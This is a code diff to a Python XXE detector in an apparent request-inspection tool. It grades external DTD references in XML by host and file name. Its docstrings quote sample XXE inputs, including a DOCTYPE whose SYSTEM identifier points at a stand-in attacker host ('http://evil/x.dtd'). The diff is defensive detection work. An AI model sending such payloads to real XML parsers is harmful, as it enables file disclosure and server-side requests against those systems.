@@ -29,6 +29,7 @@ from extauthz.decode import Input
 from extauthz.detect.base import Detector, register
 from extauthz.finding import Finding, Severity, excerpt
 from extauthz.request import Request
+from extauthz.rules import rule_lines
 
 MAX_DOC = 65536
 MAX_DECLS = 256
@@ -65,7 +66,7 @@ def judge_xml(text: str, in_parameter: bool = False) -> tuple[str, Severity, int
     if d >= 0:
         head = low[d:d + 400].split("[", 1)[0].split(">", 1)[0]
         if " system" in head or " public" in head:
-            keep(("xxe.external-dtd", Severity.HIGH, d, "DOCTYPE loads an external DTD"))
+            keep(_external_dtd(head, d, _uses_entities(low)))
     i = low.find("<!entity")
     internal = 0
     n = 0
@@ -104,6 +105,61 @@ def judge_xml(text: str, in_parameter: bool = False) -> tuple[str, Severity, int
     if x >= 0:
         keep(("xxe.xinclude", Severity.HIGH, x, "XInclude"))
     return best
+
+
+def _standard_hosts() -> frozenset[str]:
+    return frozenset(rule_lines("xml_dtd_hosts.txt"))
+
+
+def _host_of(url: str) -> str:
+    """The host a URL's authority names (`\\`, `?`, `#` end it as `/` does; userinfo dropped)."""
+    rest = url.split("://", 1)[1] if "://" in url else ""
+    for stop in "/\\?#":
+        rest = rest.split(stop, 1)[0]
+    return rest.rsplit("@", 1)[-1].split(":", 1)[0].strip(".")
+
+
+_PREDEFINED = frozenset({"amp", "lt", "gt", "quot", "apos"})
+
+
+def _uses_entities(low: str) -> bool:
+    """The document references an entity XML does not predefine (`&x;`): its declaration
+    has to come from a DTD (bounded: the first MAX_DECLS references)."""
+    i = low.find("&", 0, MAX_DOC)
+    n = 0
+    while i >= 0 and n < MAX_DECLS:
+        n += 1
+        end = low.find(";", i + 1, i + 34)
+        name = low[i + 1:end] if end > i else ""
+        if name and not name.startswith("#") and name not in _PREDEFINED and \
+                name.replace("-", "").replace("_", "").replace(".", "").isalnum():
+            return True
+        i = low.find("&", i + 1, MAX_DOC)
+    return False
+
+
+def _external_dtd(head: str, at: int, uses_entities: bool) -> tuple[str, Severity, int, str]:
+    """How far an external DTD reaches. `<!DOCTYPE x SYSTEM "http://evil/x.dtd">` makes a
+    parser that loads DTDs fetch the attacker's declarations (HIGH). Two shapes that
+    documents carry are a document type, not a fetch (LOW): a formal public identifier
+    with its DTD's canonical URL on a standards host (rules/xml_dtd_hosts.txt: SVG,
+    XHTML, DocBook, Jetty, Spring configs) and a bare relative file name (`SYSTEM
+    "gdb-target.dtd"`, `"log4j.dtd"`: no scheme, no directory, nothing to reach) in a
+    document that uses no entity of it (`<!DOCTYPE x SYSTEM "test.dtd"><x>&x;</x>` asks
+    the parser to load the DTD and expand what it declares: HIGH)."""
+    lits = head.replace("'", '"').split('"')[1::2]
+    public = " public" in head and " system" not in head
+    sysid = (lits[1] if len(lits) > 1 else "") if public else (lits[0] if lits else "")
+    sysid = sysid.strip()
+    if public and lits and lits[0].startswith(("-//", "+//", "iso")) and "//" in lits[0][3:]:
+        host = _host_of(sysid)
+        hosts = _standard_hosts()
+        if sysid.startswith(("http://", "https://")) and host and (
+                host in hosts or any(host.endswith("." + h) for h in hosts)):
+            return ("xxe.external-dtd", Severity.LOW, at, "DOCTYPE names a standard document type")
+    if not public and not uses_entities and sysid.endswith(".dtd") and not any(c in sysid for c in "/\\:%&") and ".." not in sysid:
+        return ("xxe.external-dtd", Severity.LOW, at, "DOCTYPE names a DTD by a relative file name")
+    return ("xxe.external-dtd", Severity.HIGH, at, "DOCTYPE loads an external DTD")
 
 
 def _xinclude_element(low: str) -> int:
